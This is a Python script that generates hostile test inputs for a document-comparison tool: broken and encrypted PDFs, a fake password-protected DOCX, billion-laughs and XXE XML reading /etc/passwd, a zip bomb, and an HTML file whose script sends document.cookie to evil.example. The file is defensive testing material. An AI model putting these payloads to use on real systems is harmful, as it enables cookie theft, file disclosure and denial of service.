"""Hostile inputs: the bad files of ``tests/hostile/CATALOGUE.md``, written by one script.

Usage (from the repository root)::

    python tests/hostile/make.py              # (re)write the small files committed in tests/hostile/
    python tests/hostile/make.py --out DIR    # write every entry, small and generated, into DIR

Small files (a few KB) are committed next to this script, so a reviewer can open them. The rest are made at
test time in a temporary folder by ``generate(folder)`` and never committed: a 1 GB file (sparse: it costs no
disk), a zip bomb, a named pipe, a symbolic link loop, a folder, a file without read permission, a path through
a regular file, a path with spaces and non-ASCII characters, a draft to delete before it is opened (see
``hook.py``), and ``/dev/zero``. ``tests/test_hostile.py`` runs the real command
line on each entry.

Only the standard library and pypdf (a dependency of treatydiff) are needed.
"""

from __future__ import annotations

import argparse
import io
import os
import random
import shutil
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[1]
CONVENTION = ROOT / "fixtures" / "convention"

#: What the XXE entry points at; the tests check that its contents never show up.
XXE_TARGET = "/etc/passwd"

_AKN_NS = "http://docs.oasis-open.org/legaldocml/ns/akn/3.0"
_ARTICLE = (
    '<article eId="art_1"><num>Article 1</num><heading>Scope</heading>'
    "<paragraph><content><p>This Convention applies to {what}.</p></content></paragraph></article>"
)


# --- small files, committed ------------------------------------------------------------------------------


def truncated_pdf() -> bytes:
    """The zero draft cut off after its first 40%: what a broken download leaves."""
    data = (CONVENTION / "zero-draft.pdf").read_bytes()
    return data[: len(data) * 2 // 5]


def _pdf(encrypt: bool, text: bool) -> bytes:
    from pypdf import PdfWriter
    from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject

    writer = PdfWriter()
    page = writer.add_blank_page(width=595, height=842)
    # A grey box where a scanned page would have its picture: something is drawn, but no text.
    content = b"0.5 g 72 72 451 698 re f"
    if text:
        font = DictionaryObject(
            {NameObject("/Type"): NameObject("/Font"), NameObject("/Subtype"): NameObject("/Type1"),
             NameObject("/BaseFont"): NameObject("/Times-Roman")}
        )
        page[NameObject("/Resources")] = DictionaryObject(
            {NameObject("/Font"): DictionaryObject({NameObject("/F1"): writer._add_object(font)})}
        )
        content = b"BT /F1 12 Tf 72 770 Td (Article 1) Tj 0 -20 Td (Scope) Tj ET"
    stream = DecodedStreamObject()
    stream.set_data(content)
    page[NameObject("/Contents")] = writer._add_object(stream)
    if encrypt:
        # RC4 needs no extra package, so the error is "password-protected", not "install cryptography".
        writer.encrypt(user_password="secret", owner_password="owner", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def encrypted_pdf() -> bytes:
    """A one-page PDF with text, encrypted with a user password ("secret")."""
    return _pdf(encrypt=True, text=True)


def no_text_pdf() -> bytes:
    """A valid PDF whose page draws a filled rectangle and no text: a scan without OCR."""
    return _pdf(encrypt=False, text=False)


def password_docx() -> bytes:
    """What Word writes for "Encrypt with password": an OLE compound file (not a zip) holding the streams
    EncryptionInfo and EncryptedPackage. A minimal one: a valid header and one directory sector naming the
    streams; the encrypted payload is 1 KB of random bytes."""
    sector = 512
    header = bytearray(sector)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    header[0x18:0x1A] = (0x3E).to_bytes(2, "little")  # minor version
    header[0x1A:0x1C] = (3).to_bytes(2, "little")  # major version 3: 512-byte sectors
    header[0x1C:0x1E] = b"\xfe\xff"  # little-endian
    header[0x1E:0x20] = (9).to_bytes(2, "little")  # sector shift
    header[0x20:0x22] = (6).to_bytes(2, "little")  # mini sector shift
    header[0x2C:0x30] = (1).to_bytes(4, "little")  # one FAT sector
    header[0x30:0x34] = (1).to_bytes(4, "little")  # directory starts at sector 1
    header[0x38:0x3C] = (4096).to_bytes(4, "little")  # mini stream cutoff
    header[0x3C:0x40] = b"\xfe\xff\xff\xff"  # no mini FAT
    header[0x44:0x48] = b"\xfe\xff\xff\xff"  # no DIFAT sectors
    header[0x4C:0x50] = (0).to_bytes(4, "little")  # FAT in sector 0
    header[0x50:sector] = b"\xff" * (sector - 0x50)
    fat = bytearray(b"\xff\xff\xff\xff" * (sector // 4))
    fat[0:4] = b"\xfd\xff\xff\xff"  # sector 0: FAT
    fat[4:8] = b"\xfe\xff\xff\xff"  # sector 1: directory, end of chain
    fat[8:12] = b"\x03\x00\x00\x00"  # sectors 2-3: EncryptedPackage
    fat[12:16] = b"\xfe\xff\xff\xff"
    directory = bytearray()
    for name, kind, start, size in (("Root Entry", 5, 0xFFFFFFFE, 0), ("EncryptionInfo", 2, 0xFFFFFFFE, 0),
                                    ("EncryptedPackage", 2, 2, 1024)):
        entry = bytearray(128)
        encoded = (name + "\0").encode("utf-16-le")
        entry[0 : len(encoded)] = encoded
        entry[0x40:0x42] = len(encoded).to_bytes(2, "little")
        entry[0x42] = kind
        entry[0x44:0x50] = b"\xff" * 12  # no siblings, no child
        entry[0x74:0x78] = start.to_bytes(4, "little")
        entry[0x78:0x7C] = size.to_bytes(4, "little")
        directory += entry
    directory[0x4C:0x50] = (2).to_bytes(4, "little")  # the root's child: EncryptedPackage
    directory[128 + 0x44 : 128 + 0x48] = b"\xff\xff\xff\xff"
    directory[256 + 0x44 : 256 + 0x48] = (1).to_bytes(4, "little")  # left sibling: EncryptionInfo
    directory += bytes(sector - len(directory))
    payload = random.Random(3).randbytes(1024)
    return bytes(header + fat + directory) + payload


def random_docx() -> bytes:
    """4 KB of random bytes named .docx."""
    return random.Random(1).randbytes(4096)


def truncated_docx() -> bytes:
    """The zero draft's DOCX cut in half: the zip's central directory is gone."""
    data = (CONVENTION / "zero-draft.docx").read_bytes()
    return data[: len(data) // 2]


def billion_laughs_xml() -> bytes:
    """An Akoma Ntoso document whose one entity would expand to 10^9 "lol"s (3 GB) if anything expanded it."""
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
    ]
    doctype = "<!DOCTYPE akomaNtoso [\n  " + "\n  ".join(entities) + "\n]>"
    body = _ARTICLE.format(what="&lol9;")
    return (f'<?xml version="1.0"?>\n{doctype}\n<akomaNtoso xmlns="{_AKN_NS}"><act><body>{body}'
            "</body></act></akomaNtoso>\n").encode()


def xxe_xml() -> bytes:
    """An Akoma Ntoso document with an external entity that would pull in /etc/passwd."""
    body = _ARTICLE.format(what="&xxe;")
    return (f'<?xml version="1.0"?>\n<!DOCTYPE akomaNtoso [\n  <!ENTITY xxe SYSTEM "file://{XXE_TARGET}">\n]>\n'
            f'<akomaNtoso xmlns="{_AKN_NS}"><act><body>{body}</body></act></akomaNtoso>\n').encode()


def malformed_xml() -> bytes:
    """An Akoma Ntoso document whose article is never closed."""
    return (f'<?xml version="1.0"?>\n<akomaNtoso xmlns="{_AKN_NS}"><act><body>\n'
            '<article eId="art_1"><num>Article 1</num><heading>Scope</heading>\n'
            "<paragraph><content><p>This Convention applies.</p></content></paragraph>\n"
            "</body></act></akomaNtoso>\n").encode()


def script_html() -> bytes:
    """A draft as a web page with a script, an inline handler, a javascript: link and an <img onerror>."""
    return b"""<!DOCTYPE html>
<html><head><title>Draft convention</title>
<script>document.title = "SCRIPT-MARKER-HEAD"; fetch("https://evil.example/steal?c=" + document.cookie);</script>
</head>
<body onload="alert('ONLOAD-MARKER')">
<h1>Draft convention</h1>
<h2>Article 1</h2>
<h3>Scope</h3>
<p>This Convention applies to the prevention of the offences established in it.
<img src="x" onerror="alert('ONERROR-MARKER')"></p>
<script type="text/javascript">
  // SCRIPT-MARKER-BODY
  document.write("<p>Article 99 injected</p>");
</script>
<h2>Article 2</h2>
<h3>Use of terms</h3>
<p>For the purposes of this Convention, <a href="javascript:alert('HREF-MARKER')">"data"</a> means any record.</p>
<noscript>NOSCRIPT-MARKER</noscript>
</body></html>
"""


def empty_txt() -> bytes:
    return b""


def binary_bin() -> bytes:
    """2 KB of random bytes (with NULs), no known extension."""
    return b"\x7fELF\x02\x01\x01\x00" + random.Random(2).randbytes(2040)


def invalid_utf8_txt() -> bytes:
    """A draft saved in Windows-1252: curly quotes and an e acute are not UTF-8."""
    text = "Article 1\nScope\n\nThis Convention applies to \u201cdata\u201d held by a Party\u2019s r\u00e9gime.\n"
    return text.encode("cp1252")


def utf16_bom_txt() -> bytes:
    """A draft saved as "Unicode" by Notepad: UTF-16 little-endian with a byte order mark."""
    text = "Article 1\r\nScope\r\n\r\nThis Convention applies to \u201cdata\u201d \u2014 any record.\r\n"
    return text.encode("utf-16")  # with BOM


#: Committed file name -> how it is made.
SMALL: dict[str, Callable[[], bytes]] = {
    "truncated.pdf": truncated_pdf,
    "encrypted.pdf": encrypted_pdf,
    "no-text.pdf": no_text_pdf,
    "password.docx": password_docx,
    "random.docx": random_docx,
    "truncated.docx": truncated_docx,
    "billion-laughs.xml": billion_laughs_xml,
    "xxe.xml": xxe_xml,
    "malformed.xml": malformed_xml,
    "script.html": script_html,
    "empty.txt": empty_txt,
    "binary.bin": binary_bin,
    "invalid-utf8.txt": invalid_utf8_txt,
    "utf16-bom.txt": utf16_bom_txt,
}


# --- generated at test time -----------------------------------------------------------------------------

#: The path with spaces and non-ASCII characters (a folder and a file name).
UNICODE_PATH = "Entwürfe 2024 (Rev. 1)/zéro draft – 草案 №1.md"  # noqa: RUF001 (the en dash is the point)


def zip_bomb(path: Path) -> None:
    """A DOCX whose document.xml is 256 MB of spaces squeezed into about 1 MB: it expands over 200-fold."""
    chunk = b" " * (1 << 20)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        with archive.open("word/document.xml", "w", force_zip64=True) as member:
            member.write(b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
                         b'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>')
            for _ in range(256):
                member.write(chunk)
            member.write(b"</w:t></w:r></w:p></w:body></w:document>")


def generate(folder: Path) -> dict[str, Path]:
    """Make the entries that are not committed in ``folder``; their catalogue names -> their paths."""
    folder.mkdir(parents=True, exist_ok=True)
    made: dict[str, Path] = {}

    def at(name: str) -> Path:
        made[name] = folder / name
        return made[name]

    with at("huge.txt").open("wb") as handle:
        handle.truncate(1 << 30)  # sparse: 1 GB that takes no disk
    zip_bomb(at("zip-bomb.docx"))
    os.mkfifo(at("fifo.txt"))
    os.symlink("loop-b.txt", at("loop-a.txt"))
    os.symlink("loop-a.txt", folder / "loop-b.txt")
    at("folder.md").mkdir()
    unreadable = at("unreadable.md")
    shutil.copyfile(CONVENTION / "zero-draft.md", unreadable)
    unreadable.chmod(0)
    (folder / "plain.txt").write_text("Article 1\nScope\n\nText.\n", encoding="utf-8")
    made["inside-a-file.md"] = folder / "plain.txt" / "draft.md"
    spaced = folder / UNICODE_PATH
    made["unicode-path.md"] = spaced
    spaced.parent.mkdir(parents=True, exist_ok=True)
    shutil.copyfile(CONVENTION / "zero-draft.md", spaced)
    made["/dev/zero"] = Path("/dev/zero")
    vanishing = at("vanishing.md")
    shutil.copyfile(CONVENTION / "zero-draft.md", vanishing)
    return made


def write_small(folder: Path) -> list[Path]:
    folder.mkdir(parents=True, exist_ok=True)
    written = []
    for name, make in SMALL.items():
        path = folder / name
        path.write_bytes(make())
        written.append(path)
    return written


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else None)
    parser.add_argument("--out", type=Path, help="write every entry into this folder instead")
    args = parser.parse_args(argv)
    if args.out is None:
        for path in write_small(HERE):
            print(path.relative_to(ROOT))
        return 0
    write_small(args.out)
    for name, path in generate(args.out).items():
        print(f"{name}: {path}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
